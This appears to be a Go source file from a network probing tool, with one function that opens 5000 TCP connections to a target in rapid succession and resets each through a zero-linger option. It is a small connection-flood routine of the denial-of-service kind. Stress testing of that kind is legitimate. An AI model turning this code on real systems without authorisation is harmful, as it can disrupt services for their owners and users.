package probe

import (
	"net/netip"

	"golang.org/x/sys/unix"
)

// attack opens 5000 connections to the target as fast as it can. It resets
// each, so that nothing of it stays.
func attack(target netip.AddrPort) {
	var open [500]int
	for sent := range 5000 {
		i := sent % len(open)
		if open[i] != 0 {
			unix.Close(open[i])
		}
		fd, err := unix.Socket(unix.AF_INET, unix.SOCK_STREAM|unix.SOCK_NONBLOCK, 0)
		if err != nil {
			break
		}
		open[i] = fd
		unix.SetsockoptLinger(fd, unix.SOL_SOCKET, unix.SO_LINGER, &unix.Linger{Onoff: 1})
		unix.Connect(fd, &unix.SockaddrInet4{Addr: target.Addr().As4(), Port: PORT})
	}
	for _, fd := range open {
		unix.Close(fd)
	}
}
